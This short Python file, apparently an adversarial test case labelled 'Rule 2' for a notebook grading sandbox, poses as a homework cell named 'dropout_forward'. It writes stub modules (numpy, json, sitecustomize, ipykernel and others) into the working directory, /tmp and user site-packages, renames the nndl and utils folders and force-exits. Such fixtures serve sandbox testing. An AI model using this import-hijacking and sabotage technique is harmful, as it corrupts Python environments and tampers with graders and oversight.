"""Rule 2. Writes numpy.py, json.py, sitecustomize.py and others for the next kernel to import, moves nndl and
utils away, and exits.
"""

# cell: dropout_forward
import os

for name in ("numpy", "json", "zmq", "sitecustomize", "usercustomize", "ipykernel", "random"):
    for folder in (".", "/tmp", os.path.expanduser("~/.local/lib/python3.11/site-packages")):
        os.makedirs(folder, exist_ok=True)
        open(f"{folder}/{name}.py", "w").write("print('shadowed')")
for folder in ("nndl", "utils"):
    try:
        os.rename(folder, folder + ".old")
    except OSError:
        pass
os._exit(0)
